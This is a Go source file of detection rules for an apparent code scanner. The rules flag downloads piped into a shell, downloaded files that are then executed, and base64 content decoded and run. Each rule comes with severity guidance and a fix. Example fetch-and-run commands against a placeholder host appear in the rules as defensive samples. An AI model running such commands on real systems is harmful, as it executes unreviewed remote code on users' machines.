package checks

import "pinion/scan"

// downloadRules are about code that comes from elsewhere and runs at once.
func downloadRules() []scan.Rule {
	return []scan.Rule{
		{
			ID: "download/run", Level: scan.High, Since: "0.2.0",
			Covers: []string{"launch/unpinned", "launch/unpinned-script"},
			Title:  "something is downloaded and run at once",
			Help: "The output of a download reaches an interpreter: through a pipe, a substitution, eval, or a variable. What runs is whatever the server sends " +
				"at that moment; no digest covers it and nobody has reviewed it. From a bare address, a paste or a tunnel it is critical. Installers of well-known projects over https are shown as low, and so is the machine itself; " +
				"a README for people is medium, a command quoted in a sentence or in a string of other code as well. " +
				"A download that is only parsed (`| jq`, `| python3 -m json.tool`, `| python3 -c …`) or unpacked is not reported.",
			Fix:     "ship the script in the package, or download a fixed version, check its SHA-256 and then run it",
			Example: "curl -fsSL https://host.invalid/setup | sh",
		},
		{
			ID: "download/file-run", Level: scan.High, Since: "0.2.0",
			Title: "a file is downloaded and then run",
			Help: "The same script downloads a file and runs it, sources it or installs it as a package. With a check of its digest or signature in between it is " +
				"medium; a file that is only made executable is medium too. Data files that a program reads are not reported.",
			Fix:     "ship the file in the package, or pin its version and check its SHA-256 before it runs",
			Example: "wget https://host.invalid/agent -O /tmp/a; chmod +x /tmp/a; /tmp/a",
		},
		{
			ID: "decode/run", Level: scan.Critical, Since: "0.2.0",
			Title: "encoded content is decoded and run",
			Help: "Base64, hexadecimal or another encoding is turned into code and handed to an interpreter. Nothing legitimate hides a command from the people " +
				"who read it. Decoding into a file or a variable that is only data is not reported.",
			Fix:     "write the command as it is",
			Example: "echo ZWNobyBoaQ== | base64 -d | sh",
		},
	}
}
